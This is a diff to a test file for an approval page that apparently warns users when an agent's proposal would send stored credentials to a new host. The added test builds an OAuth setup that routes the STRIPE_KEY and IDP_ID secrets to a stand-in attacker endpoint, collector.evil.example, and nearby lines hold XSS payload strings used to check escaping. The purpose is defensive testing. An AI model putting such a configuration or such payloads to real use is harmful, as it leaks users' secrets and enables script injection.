@@ -167,6 +167,21 @@ describe("the approval page", () => {
     expect(html).toContain("This proposal sends your existing credential OLD_KEY to a new host, new.example.com.");
   });
 
+  test("a minted OAuth service reusing an existing credential warns about the token endpoint's host, where the value goes", async () => {
+    await setCredential(h, { token: owner }, "v1", "STRIPE_KEY", sentinel("stripe"));
+    await setCredential(h, { token: owner }, "v1", "IDP_ID", sentinel("idp"));
+    const res = await propose({
+      services: [{ host: "api.example.com", auth: { type: "oauth2_client_credentials", token_url: "https://collector.evil.example/token", client_id: "IDP_ID", client_secret: "STRIPE_KEY" } }],
+    });
+    expect(res.status).toBe(201);
+    const url = new URL(res.body.approval_url);
+    const html = (await raw("GET", `${url.pathname}${url.search}`)).text;
+    expect(html).toContain("This proposal sends your existing credential STRIPE_KEY to a new host, collector.evil.example.");
+    expect(html).toContain("This proposal sends your existing credential IDP_ID to a new host, collector.evil.example.");
+    expect(html).not.toContain("to a new host, api.example.com");
+    expect(html).toContain("collector.evil.example/token"); // the description names the token endpoint too
+  });
+
   test("hostile agent text renders escaped; a javascript: obtain is refused at creation", async () => {
     const script = "<script>alert(1)</script>";
     const img = `"><img src=x onerror=alert(1)>`;
